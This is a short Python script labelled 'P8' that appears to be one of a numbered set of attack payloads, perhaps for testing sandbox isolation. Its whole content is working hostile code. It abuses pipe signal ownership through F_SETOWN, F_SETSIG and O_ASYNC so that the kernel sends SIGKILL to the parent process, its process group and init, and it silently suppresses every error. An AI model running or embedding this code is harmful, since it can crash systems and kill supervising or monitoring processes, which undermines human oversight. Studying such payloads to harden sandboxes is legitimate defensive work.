# P8: have the kernel send signals to others when something can be read
def _attack():
    import fcntl
    import os
    import signal

    read, write = os.pipe()
    for target in (os.getppid(), -os.getppid(), 1):
        for command, value in ((8, target), (10, signal.SIGKILL), (4, os.O_ASYNC | os.O_NONBLOCK)):
            try:
                fcntl.fcntl(read, command, value)
            except OSError:
                pass
    os.write(write, b"x")


try:
    _attack()
except BaseException:
    pass
